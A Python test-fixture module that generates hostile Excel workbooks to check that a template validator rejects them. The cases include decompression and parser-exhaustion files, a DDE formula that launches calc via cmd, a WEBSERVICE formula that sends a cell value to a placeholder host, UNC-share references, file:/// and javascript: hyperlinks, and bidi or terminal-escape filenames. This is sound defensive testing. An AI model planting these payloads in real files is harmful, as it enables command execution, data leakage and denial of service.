"""The hostile corpus, second round: small files that cost minutes or gigabytes, live formulas
and links, odd names. Written like the first round (`hostile.py`), each by a function.

These cases are read as a batch of their own: nine of them are valid templates of a unit (or
claim one), and a batch may hold one workbook per unit.
"""

from __future__ import annotations

import random
import re
import struct
from collections.abc import Iterable, Iterator
from pathlib import Path

from openpyxl import load_workbook

from .fixtures_workbook import INPUT, Filled, cache_formula_value, edit, layout_for
from .hostile import CASES as FIRST_ROUND
from .hostile import INPUT_PART, META_PART, Hostile, write_all
from .hostile_formats import (
    DOC_RELS,
    Parts,
    add_rel,
    derive,
    insert,
    letters,
    part,
    strings_part,
    with_strings,
)

COVER_PART, STYLES, BOOK = "xl/worksheets/sheet1.xml", "xl/styles.xml", "xl/workbook.xml"
SHEET_RELS = "xl/worksheets/_rels/sheet2.xml.rels"


def _cell(xml: bytes, ref: str, chunks: Iterable[bytes]) -> Iterator[bytes]:
    """`xml` with cell `ref` replaced by the cell `chunks` make (streamed, not joined)."""
    found = re.search(rb'<c r="%s"[^>]*?(?:/>|>.*?</c>)' % ref.encode(), xml, re.DOTALL)
    assert found, ref
    yield xml[: found.start()]
    yield from chunks
    yield xml[found.end() :]


def _shared(xml: bytes, refs: Iterable[str], index: int = 0) -> bytes:
    """`xml` with each cell of `refs` pointing at shared string `index`."""
    for ref in refs:
        xml = b"".join(_cell(xml, ref, [b'<c r="%s" t="s"><v>%d</v></c>' % (ref.encode(), index)]))
    return xml


def _inline(ref: str, text: Iterable[bytes]) -> Iterator[bytes]:
    yield b'<c r="%s" t="inlineStr"><is><t>' % ref.encode()
    yield from text
    yield b"</t></is></c>"


# ---------------------------------------------------------------------------- cases


def number_format_code(folder: Path, filled: Filled) -> Path:
    # 3 KB zipped; openpyxl's regular expressions take minutes over it.
    source = filled.source("changchun")
    code = b'<numFmts count="1"><numFmt numFmtId="200" formatCode="%s"/></numFmts>' % (
        b"[" * 400_000
    )
    styles = part(source, STYLES).replace(b'<numFmts count="0" />', code)
    return derive(source, folder / "number-format-400000.xlsx", {STYLES: styles})


def print_area_quotes(folder: Path, filled: Filled) -> Path:
    source = filled.source("changchun")
    book = part(source, BOOK).replace("'说明'!$A$1:$C$32".encode(), b"'" * 100_000, 1)
    return derive(source, folder / "print-area-100000-quotes.xlsx", {BOOK: book})


def styles_comment(folder: Path, filled: Filled) -> Path:
    # A single XML token the bundled expat (2.5) re-scans with every block it is fed.
    source = filled.source("changchun")
    chunks = insert(part(source, STYLES), b"<numFmts", [b"<!--", letters(40 * 2**20), b"-->"])
    return derive(source, folder / "styles-comment-40mb.xlsx", {STYLES: chunks})


def central_directory(folder: Path, filled: Filled) -> Path:
    # A zip of 960,000 empty entries: its directory alone is 45 MB, which `zipfile` would
    # parse whole (7 s, 553 MB) before anything counted the entries.
    count = 960_000
    local = b"PK\x03\x04" + struct.pack("<5H3L2H", 20, 0, 0, 0, 0x21, 0, 0, 0, 1, 0) + b"x"
    entry = b"PK\x01\x02" + struct.pack(
        "<6H3L5H2L", 20, 20, 0, 0, 0, 0x21, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0
    )
    entry += b"x"
    size, start = len(entry) * count, len(local)
    end64 = b"PK\x06\x06" + struct.pack("<Q2H2L4Q", 44, 45, 45, 0, 0, count, count, size, start)
    locator = b"PK\x06\x07" + struct.pack("<LQL", 0, start + size, 1)
    end = b"PK\x05\x06" + struct.pack("<4H2LH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    out = folder / "central-directory-960000.xlsx"
    with out.open("wb") as handle:
        handle.write(local)
        for _ in range(count // 10_000):
            handle.write(entry * 10_000)
        handle.write(end64 + locator + end)
    return out


def fdfa_value(folder: Path, filled: Filled) -> Path:
    # 8 MB of U+FDFA and CJK squares, which NFKC turns into 18 and 3 to 5 characters each;
    # drawn at random, so that the part deflates only as much as text does.
    source = filled.source("changchun")
    ref = layout_for("changchun").items[0].ref("value")
    expanding = ["\ufdfa", "\ufdfb", *map(chr, range(0x3300, 0x3358))]
    draw = random.Random(0)
    text = ("".join(draw.choices(expanding, k=2**20 // 3)).encode() for _ in range(8))
    sheet = _cell(part(source, INPUT_PART), ref, _inline(ref, text))
    return derive(source, folder / "fdfa-value-8mb.xlsx", {INPUT_PART: sheet})


def shared_everywhere(folder: Path, filled: Filled) -> Path:
    source = filled.source("jilin")
    refs = [item.ref("value") for item in layout_for("jilin").items]
    sheet = _shared(part(source, INPUT_PART), refs)
    content = strings_part([letters(40 * 2**20)], 1)
    return with_strings(source, folder / "shared-string-40mb.xlsx", content, {INPUT_PART: sheet})


def meta_city(folder: Path, filled: Filled) -> Path:
    source = filled.source("changchun")
    meta = insert(part(source, META_PART), b"changchun</t>", [letters(20 * 2**20)])
    return derive(source, folder / "meta-city-20mb.xlsx", {META_PART: meta})


def structural_cells(folder: Path, filled: Filled) -> Path:
    # One 1 MB string in each cell the structure check compares: the cover's texts and the
    # unit column. Each is a problem that quotes what it found.
    source = filled.source("siping")
    layout = layout_for("siping")
    cover = _shared(part(source, COVER_PART), [ref for _, ref, _ in layout.cover_cells()])
    sheet = _shared(part(source, INPUT_PART), [item.ref("unit") for item in layout.items])
    content = strings_part([letters(2**20)], 1)
    out = folder / "structural-cells-1mb.xlsx"
    return with_strings(source, out, content, {COVER_PART: cover, INPUT_PART: sheet})


def live_formulas(folder: Path, filled: Filled) -> Path:
    # Each with the value filled in before as the cached value Excel would keep: the cells
    # read as valid numbers but for their formulas.
    items = layout_for("tonghua").items
    formulas = {
        items[0].ref("value"): "=cmd|' /C calc'!A0",
        items[1].ref("value"): "='\\\\host\\s\\[x.xlsx]S'!A1",
        items[2].ref("value"): '=WEBSERVICE("http://example.invalid/?"&A1)',
    }
    path = filled("tonghua", folder / "live-formulas.xlsx")
    cached = {ref: load_workbook(path)[INPUT][ref].value for ref in formulas}

    def write(wb) -> None:
        for ref, formula in formulas.items():
            wb[INPUT][ref] = formula

    edit(path, write)
    for ref in formulas:
        cache_formula_value(path, ref, str(cached[ref]))
    return path


def local_hyperlinks(folder: Path, filled: Filled) -> Path:
    source = filled.source("baishan")
    targets = ["file:///C:/Windows/System32/calc.exe", "javascript:alert(1)", "\\\\host\\share\\x"]
    rels = add_rel(source, SHEET_RELS, "rIdWeb", "hyperlink", "https://example.org", "External")
    for n, target in enumerate(targets):
        rel = f'<Relationship Id="rIdL{n}" Type="{DOC_RELS}/hyperlink" Target="{target}" '
        rels = rels.replace(
            b"</Relationships>", f'{rel}TargetMode="External"/></Relationships>'.encode()
        )
    links = "".join(
        f'<hyperlink ref="A{n + 1}" xmlns:r="{DOC_RELS}" r:id="rIdL{n}"/>'
        for n in range(len(targets))
    )
    links = f"<hyperlinks>{links}</hyperlinks>".encode()
    sheet = insert(part(source, INPUT_PART), b"<printOptions", [links])
    parts: Parts = {SHEET_RELS: rels, INPUT_PART: sheet}
    return derive(source, folder / "local-hyperlinks.xlsx", parts)


def number_overflow(folder: Path, filled: Filled) -> Path:
    # Typed as text, and as a number (openpyxl reads it as infinity).
    source = filled.source("liaoyuan")
    items = layout_for("liaoyuan").items
    first, second = items[0].ref("value"), items[1].ref("value")
    sheet = b"".join(_cell(part(source, INPUT_PART), first, _inline(first, [b"1e1000000"])))
    number = [b'<c r="%s" t="n"><v>1e1000000</v></c>' % second.encode()]
    sheet = b"".join(_cell(sheet, second, number))
    return derive(source, folder / "number-1e1000000.xlsx", {INPUT_PART: sheet})


def bidi_note(folder: Path, filled: Filled) -> Path:
    # A right-to-left override: the note would display as "1A eton" reversed in the report.
    source = filled.source("baicheng")
    sheet = part(source, INPUT_PART).replace(b"note A1</t>", "note \u202e1A\u202c</t>".encode(), 1)
    return derive(source, folder / "bidi-note.xlsx", {INPUT_PART: sheet})


ODD_NAME = "odd-name-\x1b[2J-\u202e-\x01.xlsx"


def odd_name(folder: Path, filled: Filled) -> Path:
    # An escape sequence (clear the screen), a bidi override and a control character.
    return filled("songyuan", folder / ODD_NAME)


CASES = [
    Hostile(
        "number-format-400000",
        "a number format code of 400,000 '[' (3 KB zipped)",
        number_format_code,
        "file.too-large",
        "number_format",
    ),
    Hostile(
        "print-area-100000-quotes",
        "a print area defined as 100,000 quote marks",
        print_area_quotes,
        "file.too-large",
        "defined_name",
    ),
    Hostile(
        "styles-comment-40mb",
        "a 40 MB comment in styles.xml, one XML token",
        styles_comment,
        "file.too-large",
        "xml_token",
    ),
    Hostile(
        "central-directory-960000",
        "a zip directory of 960,000 entries (45 MB)",
        central_directory,
        "file.too-large",
        "entries",
    ),
    Hostile(
        "fdfa-value-8mb",
        "a value cell of 8 MB of U+FDFA and CJK squares (up to ×18 under NFKC)",
        fdfa_value,
        "cell.text-too-long",
    ),
    Hostile(
        "shared-string-40mb",
        "one 40 MB shared string in every value cell",
        shared_everywhere,
        "cell.text-too-long",
        many=True,
    ),
    Hostile(
        "meta-city-20mb",
        "a unit of 20 MB in the template's metadata",
        meta_city,
        "structure.unknown-city",
    ),
    Hostile(
        "structural-cells-1mb",
        "one 1 MB string in every cell the structure check compares",
        structural_cells,
        "structure.changed",
        many=True,
    ),
    Hostile(
        "live-formulas",
        "values by DDE, from a UNC share and by WEBSERVICE, with cached values",
        live_formulas,
        "cell.live-formula",
        many=True,
    ),
    Hostile(
        "local-hyperlinks",
        "hyperlinks to file:///, javascript: and a UNC share",
        local_hyperlinks,
        "file.unsafe-link",
    ),
    Hostile(
        "number-1e1000000",
        "1e1000000 typed as text and stored as a number",
        number_overflow,
        "cell.number-too-large",
        many=True,
    ),
    Hostile(
        "bidi-note",
        "a note holding a right-to-left override, read without it",
        bidi_note,
        None,
        note="cell.bidi-controls",
    ),
    Hostile(
        "odd-name",
        "a valid template named with an escape sequence, a bidi override and \\x01",
        odd_name,
        None,
        file=ODD_NAME,
    ),
]
ALL = [*FIRST_ROUND, *CASES]
BATCHES = (FIRST_ROUND, CASES)  # each read as one batch: one workbook per unit in each


def write_every(folder: Path, filled: Filled) -> dict[str, Path]:
    """Both rounds into `folder`; each file by case name."""
    return {**write_all(folder, filled), **write_all(folder, filled, CASES)}
